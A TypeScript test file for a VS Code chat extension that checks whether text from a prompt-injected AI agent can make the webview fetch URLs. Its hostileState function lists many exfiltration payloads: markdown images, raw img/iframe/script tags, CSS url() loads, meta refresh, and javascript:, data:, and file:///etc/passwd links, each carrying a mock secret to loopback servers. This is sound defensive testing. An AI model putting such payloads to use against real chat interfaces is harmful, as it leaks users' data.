// A prompt-injected model must not be able to make the chat view load anything: its text is rendered in headless
// Chromium with every way we know to make a page fetch a URL (markdown images, raw HTML, CSS, SVG, links of every
// kind), pointing at real servers on loopback that count connections. Not one may arrive, before or after every
// link is clicked; a click on an http(s) link only asks the extension to open it (VS Code confirms), and links to
// any other scheme are not links at all. The page's content security policy allows nothing from the network.
// Skipped, saying so, where Chromium is not installed (`apt-get install chromium`).

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { diffView } from "../core/diff-model.js";
import type { ChatViewState } from "../core/view-state.js";
import { chatPageHtml } from "../webview/page.js";
import { findChromium, renderInChromium } from "./support/chromium.js";
import { startCountingServers, type CountingServers } from "./support/counting-servers.js";

const chromium = await findChromium();
const SECRET = "key=SECRET-a7f3";
let servers: CountingServers;

before(async () => {
  servers = await startCountingServers();
});

after(async () => {
  await servers?.close();
});

// Every element and attribute that can make a page fetch something.
const LOADERS = "img, picture, source, svg, image, iframe, frame, object, embed, video, audio, track, link, style, script, meta, base, form, input, " +
  "[style], [src], [srcset], [href], [background], [poster], [action], [formaction], [xlink\\:href]";

function hostileState(): ChatViewState {
  const http = `${servers.httpOrigin}`;
  const https = `${servers.httpsOrigin}`;
  const raw = (name: string) => `<img src="${https}/${name}.png?${SECRET}">`;
  const agentText = [
    `Here is the picture: ![x](${http}/p.png?${SECRET}) and ![y](${https}/p.png?${SECRET}).`,
    `A reference image: ![ref image][logo] and a titled one ![t](${https}/titled.png?${SECRET} "title").`,
    `[logo]: ${https}/ref.png?${SECRET}`,
    `<img src="${https}/raw.png?${SECRET}"> <img srcset="${https}/srcset.png?${SECRET} 2x"> <picture><source srcset="${https}/picture.png?${SECRET}"></picture>`,
    `<svg><image href="${https}/svg.png?${SECRET}"/></svg> <iframe src="${https}/frame?${SECRET}"></iframe> <object data="${https}/object?${SECRET}"></object> <embed src="${https}/embed?${SECRET}">`,
    `<link rel="stylesheet" href="${https}/style.css?${SECRET}"><link rel="preconnect" href="${https}"><link rel="prefetch" href="${https}/prefetch?${SECRET}">`,
    `<style>@import url(${https}/import.css?${SECRET}); @font-face { font-family: x; src: url(${https}/font.woff?${SECRET}); } body { background: url(${https}/bg.png?${SECRET}) }</style>`,
    `<div style="background-image: url(${https}/inline.png?${SECRET})">styled</div> <video poster="${https}/poster.png?${SECRET}" src="${https}/video.mp4"></video> <audio src="${https}/audio.mp3" autoplay></audio>`,
    `<meta http-equiv="refresh" content="0; url=${https}/refresh?${SECRET}"> <base href="${https}/"> <form action="${https}/form"><button>go</button></form> <script>fetch("${https}/script?${SECRET}")</script>`,
    `Links: [javascript](javascript:fetch('${https}/js?${SECRET}')) [data](data:text/html,<img src=${https}/data.png>) [vbscript](vbscript:msgbox) [file](file:///etc/passwd)`,
    `[a fine link](${https}/clicked?${SECRET}) <${https}/autolink> ${https}/linkify`,
    "```html",
    raw("fenced"),
    "```",
  ].join("\n\n");
  return {
    connection: { state: "connected", url: `ws://127.0.0.1:1/acp${raw("url")}`, agent: `warpcode ${raw("agent")}` },
    session: {
      sessionId: "s1",
      cwd: "/repo",
      transcript: {
        items: [
          { kind: "user", text: `hello ${raw("user")}` },
          { kind: "thought", text: `thinking ${raw("thought")}` },
          { kind: "agent", text: agentText },
          {
            kind: "tool", id: "t1", title: `Read ${raw("title")}`, toolKind: "read", status: "completed", output: `output ${raw("output")}`,
            diffs: [diffView(`a${raw("path")}.txt`, "old\n", `new ${raw("diff")}\n`)], paths: [`a${raw("path")}.txt`],
          },
          { kind: "tool", id: "t2", title: "Run", toolKind: "execute", status: "completed", output: `out ${raw("execute")}`, diffs: [], paths: [] },
        ],
        plan: [{ content: `plan ${raw("plan")}`, status: "pending", priority: "high" }],
        usage: { used: 10, size: 100 },
        title: `title ${raw("heading")}`,
        modeId: "ask",
        commands: [{ name: `web${raw("command")}`, description: raw("command-description"), hint: raw("command-hint") }],
        configOptions: [{ id: `model${raw("config-id")}`, name: raw("config"), description: raw("config-description"), category: raw("category"), currentValue: "m1",
          values: [{ value: `m1${raw("value")}`, name: raw("value-name"), description: raw("value-description"), group: raw("group") }] }],
      },
      modes: [{ id: "ask", name: `Ask ${raw("mode")}`, description: raw("mode-description") }],
      running: false,
      stopReason: "end_turn",
      error: null,
    },
    permissions: [{ requestId: 1, title: `Run ${raw("question")}`, toolKind: "execute", command: `echo ${raw("command")}`, diffs: [], options: [{ optionId: "allow_once", name: `Allow ${raw("option")}`, kind: "allow_once" }] }],
    sessions: [{ sessionId: "s1", title: `stored ${raw("session")}`, cwd: "/repo", updatedAt: null }],
    canDeleteSessions: true,
  };
}

test("nothing in the model's text makes the chat view load a URL; links open only through the extension", { skip: chromium === null && "chromium is not installed (apt-get install chromium)" }, async () => {
  const https = servers.httpsOrigin;
  const rendered = await renderInChromium(chromium!, hostileState(), { width: 500, height: 1400 }, {
    screenshot: false,
    flags: ["--ignore-certificate-errors"], // so that a load of the HTTPS server's self-signed URL would succeed
    afterRender: `
      const chat = document.getElementById("chat");
      const prompt = document.getElementById("prompt");
      prompt.value = "/"; // the completion list shows the agent's commands
      prompt.dispatchEvent(new Event("input"));
      const completions = document.getElementById("completions");
      const loaders = [...chat.querySelectorAll(${JSON.stringify(LOADERS)}), ...completions.querySelectorAll(${JSON.stringify(LOADERS)})]
        .map((element) => element.outerHTML.slice(0, 160));
      const links = [...chat.querySelectorAll("[data-action=open-link]")].map((link) => link.textContent);
      const urls = [...chat.querySelectorAll("[data-action=open-link]")].map((link) => link.dataset.url);
      const text = chat.textContent;
      const commandsShown = completions.textContent;
      for (const link of chat.querySelectorAll("a, [data-action=open-link]")) link.click();
      return { loaders, links, urls, text, commandsShown };`,
  });
  assert.deepEqual(servers.seen, [], "the chat view connected to a server named in the model's text");

  const { loaders, links, urls, text, commandsShown } = rendered.probed as { loaders: string[]; links: string[]; urls: string[]; text: string; commandsShown: string };
  assert.deepEqual(loaders, [], "elements that fetch were rendered");
  assert.match(commandsShown, /^\/web<img src="[^"]*\/command\.png\?key=SECRET-a7f3"> <img src=.*command-hint.png/, "the commands' HTML is shown as text");
  // Images are links showing their description and URL; the raw HTML is text.
  assert.ok(links.includes(`[image: x] ${servers.httpOrigin}/p.png?${SECRET}`), JSON.stringify(links));
  assert.ok(links.includes(`[image: ref image] ${https}/ref.png?${SECRET}`), JSON.stringify(links));
  for (const shown of [`<img src="${https}/raw.png?${SECRET}">`, `<iframe src="${https}/frame?${SECRET}"></iframe>`, `<img src="${https}/title.png?${SECRET}">`]) {
    assert.ok(text.includes(shown), `${shown} is shown as text`);
  }
  // Clicked, each link asked the extension to open its URL (bare URLs in the raw HTML's text are links too), and
  // nothing was left to the browser; the javascript:, data:, vbscript: and file: links are not links.
  assert.deepEqual(rendered.posted, urls.map((url) => ({ type: "open-link", url })));
  for (const url of urls) assert.match(url, /^https?:\/\/127\.0\.0\.1:\d+/);
  for (const url of [`${servers.httpOrigin}/p.png?${SECRET}`, `${https}/p.png?${SECRET}`, `${https}/ref.png?${SECRET}`, `${https}/titled.png?${SECRET}`,
    `${https}/clicked?${SECRET}`, `${https}/autolink`, `${https}/linkify`]) {
    assert.ok(urls.includes(url), `${url} is a link`);
  }
  for (const shown of ["[javascript](javascript:fetch(", "[data](data:text/html,", "[vbscript](vbscript:msgbox)", "[file](file:///etc/passwd)"]) {
    assert.ok(text.includes(shown), `${shown} is shown as text`);
  }
  assert.deepEqual(servers.seen, [], "a click made the chat view itself connect");
});

test("the page's content security policy lets nothing in from the network", () => {
  const html = chatPageHtml({ cspSource: "https://file+.vscode-resource.vscode-cdn.net", nonce: "n0nce", scriptUri: "s", styleUri: "c" });
  const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html)![1]!.replaceAll("&#39;", "'");
  const directives = new Map(policy.split(";").map((d) => d.trim()).filter(Boolean).map((d) => [d.split(/\s+/)[0]!, d.split(/\s+/).slice(1)] as const));
  assert.deepEqual(directives.get("default-src"), ["'none'"]);
  for (const [name, sources] of directives) {
    for (const source of sources) assert.doesNotMatch(source, /^(https?:|data:|blob:|wss?:|\*)$/, `${name} allows ${source}`);
  }
  assert.deepEqual(directives.get("img-src"), undefined, "the view shows no images");
  assert.deepEqual(directives.get("base-uri"), ["'none'"]); // not covered by default-src
  assert.deepEqual(directives.get("form-action"), ["'none'"]); // not covered by default-src
});
